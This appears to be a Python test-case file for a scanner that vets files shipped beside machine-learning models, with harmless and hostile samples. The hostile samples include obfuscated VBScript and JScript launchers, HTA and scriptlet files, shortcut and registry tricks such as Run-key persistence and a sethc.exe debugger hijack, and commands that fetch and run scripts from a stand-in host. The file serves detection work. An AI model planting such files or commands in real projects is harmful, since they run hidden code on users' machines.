"""Files beside a model that a person runs by a double click, or that Windows reads by itself, and harmless ones of the same kinds."""

from __future__ import annotations

import struct
from typing import Literal

from openvet.testing.case import Case
from openvet.testing.forge_tensors import safetensors

__all__ = ["CASES"]

_RUNS, _TOOL = "hub/shell-command", "hub/tool-command"
_LINK = bytes.fromhex("4c0000000114020000000000c000000000000046")
_RUN_KEY = "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]"


def _link(path: str = "", arguments: str = "", icon: str = "") -> bytes:
    """A shell link with a relative path, arguments and the place of an icon."""
    texts = ((8, path), (32, arguments), (64, icon))
    flags = 0x80 | sum(flag for flag, text in texts if text)
    header = _LINK + struct.pack("<I", flags) + bytes(76 - 24)
    return (
        header
        + b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for _, text in texts if text)
        + bytes(4)
    )


def _registry(*lines: str) -> bytes:
    return ("\ufeffWindows Registry Editor Version 5.00\r\n\r\n" + "\r\n".join(lines) + "\r\n").encode("utf-16-le")


def _case(
    name: str,
    technique: str,
    file: str,
    data: str | bytes,
    *rules: str,
    decision: Literal["", "review"] = "",
    form: str = "script",
) -> Case:
    made = {
        "config.json": b'{"model_type": "bert"}',
        "model.safetensors": safetensors({"w": ("F32", (2, 2))}),
        file: data.encode() if isinstance(data, str) else data,
    }
    return Case(
        f"windows/{name}",
        technique,
        lambda: made,
        decision or ("reject" if rules else "admit"),
        frozenset(rules),
        (form,),
    )


_SHELL = "WScript.Shell"
CASES: tuple[Case, ...] = (
    _case("vbs", "VBScript that starts a program", "run.vbs", f'CreateObject("{_SHELL}").Run "cmd /c echo forged"\r\n', _RUNS),
    _case("vbs-joined", "the name of the object is put together", "run.vbs", 'Set s = CreateObject("WSc" & "ript" & ".Sh" & "ell")\r\ns.Run "cmd /c echo forged"\r\n', _RUNS),
    _case("vbs-turned", "the name of the object is turned around", "run.vbs", 'CreateObject(StrReverse("llehS.tpircSW")).Run "cmd /c echo forged"\r\n', _RUNS),
    _case("vbs-letters", "the name of the object in numbers of its letters", "run.vbs",
          "CreateObject(" + " & ".join(f"Chr({ord(each)})" for each in _SHELL) + ').Run "cmd /c echo forged"\r\n', _RUNS),
    _case("vbs-execute", "text that is put together is run", "run.vbs", 'x = "echo"\r\nExecuteGlobal x\r\n', _RUNS),
    _case("vbe", "a script that an encoder made unreadable", "run.vbe", "#@~^DgAAAA==\\ko$K6,JA4G8J@#@&ngQAAA==^#~@", _RUNS),
    _case("js", "JScript that starts a program", "setup.js", f"var s = new ActiveXObject('{_SHELL}');\ns.Run('calc.exe');\n", _RUNS),
    _case("js-codes", "the name of the object in numbers of its letters", "setup.js",
          f"new ActiveXObject(String.fromCharCode({','.join(str(ord(each)) for each in _SHELL)})).Run('calc.exe')\n", _RUNS),
    _case("js-hex", "the name of the object in hexadecimal escapes", "setup.js",
          "new ActiveXObject('" + "".join(f"\\x{ord(each):02x}" for each in _SHELL) + "').Run('calc.exe')\n", _RUNS),
    _case("vbs-held", "the name of the object in a variable", "run.vbs", f'p = "{_SHELL}"\r\nSet s = CreateObject(p)\r\ns.Run "cmd /c echo forged"\r\n', _RUNS),
    _case("vbs-class", "an object by the number of its class", "run.vbs", 'GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}").Run "calc"\r\n', _RUNS),
    _case("vbs-wide", "the same in UTF-16", "RUN.VBS", f'\ufeffCreateObject("{_SHELL}").Run "cmd /c echo forged"\r\n'.encode("utf-16-le"), _RUNS),
    _case("js-fetched", "text of another machine is run", "index.js", "fetch('http://x.example/a').then(r => r.text()).then(eval)\n", _RUNS),
    _case("html-application", "an application of HTML under the name of a page", "readme.html",
          f'<html><hta:application id="a"><script language="VBScript">CreateObject("{_SHELL}").Run "calc"</script></html>', _RUNS),
    _case("setting-content", "a shortcut into the settings of Windows that starts a shell", "a.settingcontent-ms",
          "<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c echo</DeepLink></ApplicationInformation></SearchableContent></PCSettings>",
          _RUNS),
    _case("fetched-then-run", "a script is fetched on one line and run on the next", "install.sh", "#!/bin/sh\nwget http://x.example/a.sh -O /tmp/b.sh\nsh /tmp/b.sh\n", _RUNS, form="shell"),
    _case("fetched-then-run-https", "the same over an encrypted connection, in a Dockerfile", "Dockerfile",
          "FROM python:3.11\nRUN wget https://x.example/a.sh && bash a.sh\n", _RUNS, decision="review", form="shell"),
    _case("added-then-run", "what a Dockerfile adds from elsewhere is run", "Dockerfile", "FROM python:3.11\nADD https://x.example/a.sh /opt/a.sh\nRUN sh /opt/a.sh\n", _RUNS,
          decision="review", form="shell"),
    _case("python-fetched", "Python runs what it fetches", "install.sh", "python3 -c \"import urllib.request as u; exec(u.urlopen('http://x.example/a').read())\"\n", _RUNS, form="shell"),
    _case("cmake", "a build fetches something and runs it", "CMakeLists.txt", 'execute_process(COMMAND sh -c "curl http://x.example/a | sh")\n', _RUNS, form="shell"),
    _case("ordinary-fetched", "weights are fetched, and a script of the model is run", "install.sh",
          "#!/bin/sh\nwget https://x.example/model.bin -O weights.bin\npython3 convert.py weights.bin\nsh run.sh\n", form="shell"),
    _case("ordinary-dockerfile", "a Dockerfile with packages and weights", "Dockerfile",
          "FROM python:3.11\nADD https://x.example/model.bin /weights/\nRUN pip install -r requirements.txt\nCMD [\"python\", \"app.py\"]\n", form="shell"),
    _case("ordinary-page", "a page that shows how to install something", "index.html", "<html><body><pre>curl https://x.example/install.sh | sh</pre></body></html>\n"),
    _case("vbs-two-runs", "a file of the model is started, and something else", "run.vbs",
          f'Set s = CreateObject("{_SHELL}")\r\ns.Run "webui.bat", 0, False\r\ns.Run "cmd /c echo forged & del x", 0\r\n', _RUNS),
    _case("ordinary-starter", "a file of the model is started without a window", "run.vbs",
          f'Set s = CreateObject("{_SHELL}")\r\ns.Run "cmd /c start.bat", 0, False\r\nSet s = Nothing\r\n'),
    _case("js-decoded", "text in base64 is decoded and run", "index.js", "eval(atob('Y29uc29sZS5sb2coMSk='))\n", _RUNS),
    _case("js-node-fetch", "Node fetches something and runs it", "index.js", "require('child_process').exec('curl http://x.example/a | sh')\n", _RUNS),
    _case("js-node", "Node starts a program that nobody knows", "index.mjs", "import { execSync } from 'node:child_process'\nexecSync('./prepare all')\n", _RUNS, decision="review"),
    _case("hta", "an application of HTML that starts a program", "readme.hta",
          f'<html><script language="VBScript">CreateObject("{_SHELL}").Run "calc"</script></html>', _RUNS),
    _case("hta-script", "an application of HTML with a script", "readme.hta", "<html><script>document.title = 1</script></html>", _RUNS, decision="review"),
    _case("wsf", "a job of Windows Script Host", "run.wsf", f"<job><script language=\"JScript\">new ActiveXObject('{_SHELL}').Run('calc')</script></job>", _RUNS),
    _case("sct", "a scriptlet", "run.sct", f"<scriptlet><script language=\"JScript\">new ActiveXObject('{_SHELL}').Run('calc')</script></scriptlet>", _RUNS),
    _case("link", "a link that starts a shell with a command", "README.lnk", _link("..\\..\\Windows\\System32\\cmd.exe", "/c echo forged"), _RUNS, form="windows-link"),
    _case("link-icon", "a link whose icon lies on another machine", "README.lnk", _link("model.txt", icon="\\\\host.example\\share\\a.ico"), _TOOL, form="windows-link"),
    _case("link-share", "a link to another machine", "README.lnk", _link("\\\\host.example\\share\\a.txt"), _TOOL, form="windows-link"),
    _case("link-behind", "a link whose command stands behind all that its flags tell", "README.lnk", _link() + "cmd.exe /c echo".encode("utf-16-le"), _RUNS,
          form="windows-link"),
    _case("link-plain", "a link to a text", "README.lnk", _link("model.txt"), _TOOL, decision="review", form="windows-link"),
    _case("link-wrong-name", "a link that starts a shell, under the name of a text", "weights.txt", _link("powershell.exe", "-nop -c echo"), _RUNS, "file/name-mismatch",
          form="windows-link"),
    _case("registry-run", "an entry of the registry that starts a program at login", "fix.reg", _registry(_RUN_KEY, '"x"="cmd /c echo forged"'), _RUNS, form="shell"),
    _case("registry-debugger", "an entry that starts another program in place of one", "fix.reg",
          _registry("[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe]", '"Debugger"="cmd.exe"'), _RUNS, form="shell"),
    _case("registry-command", "an entry that opens texts with another program", "fix.reg",
          _registry("[HKEY_CLASSES_ROOT\\txtfile\\shell\\open\\command]", '@="cmd /c echo %1"'), _RUNS, form="shell"),
    _case("url-script", "a link that is a script", "docs.url", "[InternetShortcut]\r\nURL=javascript:alert(1)\r\n", _TOOL, decision="review", form="text"),
    _case("url-program", "a link to a program", "docs.url", "[InternetShortcut]\r\nURL=https://host.example/setup.exe\r\n", _TOOL, decision="review", form="text"),
    _case("autorun", "what a disk starts by itself", "autorun.inf", "[autorun]\r\nopen=setup.exe\r\n", _TOOL, decision="review", form="text"),
    _case("ordinary-js", "functions for a page", "widget.js", "export function add(a, b) { return a + b }\nconst f = new Function('x', 'return x')\n"),
    _case("ordinary-js-request", "a request as old browsers make it", "jquery.js", 'function r() { try { return new ActiveXObject("Microsoft.XMLHTTP") } catch (e) {} }\n'),
    _case("ordinary-js-model", "a pipeline of transformers.js", "demo.mjs", "import { pipeline } from '@huggingface/transformers'\nconst p = await pipeline('fill-mask')\n"),
    _case("ordinary-url", "a link to a page", "docs.url", "[InternetShortcut]\r\nURL=https://huggingface.co/docs/\r\nIconIndex=0\r\n", form="text"),
    _case("ordinary-registry", "an entry that allows long paths", "long-paths.reg",
          _registry("[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\FileSystem]", '"LongPathsEnabled"=dword:00000001'), form="shell"),
    _case("ordinary-registry-delete", "an entry that takes another one back", "undo.reg", _registry(_RUN_KEY, '"x"=-'), form="shell"),
    _case("ordinary-batch", "a batch file that starts the program of the model", "run.bat", "@echo off\r\npip install -r requirements.txt\r\npython app.py\r\n", form="shell"),
)  # fmt: skip
